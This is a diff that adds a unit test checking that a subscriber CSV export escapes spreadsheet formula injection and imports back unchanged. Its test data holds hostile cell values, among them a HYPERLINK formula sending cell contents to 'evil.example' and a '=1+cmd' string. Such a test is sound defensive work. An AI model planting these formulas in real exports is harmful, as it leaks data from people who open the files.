@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
 import {
   addSubscriber,
@@ -40,5 +41,27 @@ describe('exportSubscribers', () => {
     const summary = (d: typeof db) => [...iterateSubscribers(d)].map(({ email, name, topics, status }) => ({ email, name, topics, status }));
     expect(summary(fresh)).toEqual(summary(db));
     expect(summary(fresh)[1]?.status).toBe('unsubscribed');
+  });
+
+  it('no cell starts a formula in a spreadsheet (=, +, -, @, tab, CR), and the export imports back unchanged', () => {
+    const db = openTempDb();
+    const hostile = ['=HYPERLINK("https://evil.example/?"&A2,"Click")', '+1+2', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
+    hostile.forEach((name, i) => addSubscriber(db, { email: `p${i}@example.com`, name, topics: ['=1+cmd', 'ok'] }, { via: 'cli' }));
+    addSubscriber(db, { email: '-dash@example.com', name: 'Dash' }, { via: 'cli' });
+    let csv = '';
+    exportSubscribers(db, (c) => (csv += c));
+    const rows = parse(csv, { columns: true, relax_column_count: false }) as Record<string, string>[];
+    expect(rows).toHaveLength(hostile.length + 1);
+    for (const row of rows) {
+      for (const [column, value] of Object.entries(row)) {
+        expect(/^[=+\-@\t\r]/.test(value), `${column}: ${JSON.stringify(value)}`).toBe(false);
+      }
+    }
+    expect(rows[0]!.name).toBe(`'${hostile[0]}`);
+    expect(rows.at(-1)!.email).toBe("'-dash@example.com");
+    const fresh = openTempDb();
+    expect(importSubscribers(fresh, csv, { file: 'export.csv' })).toMatchObject({ added: hostile.length + 1, invalid: [] });
+    const names = [...iterateSubscribers(fresh)].map((s) => [s.email, s.name, s.topics]);
+    expect(names).toEqual([...iterateSubscribers(db)].map((s) => [s.email, s.name, s.topics]));
   });
 });
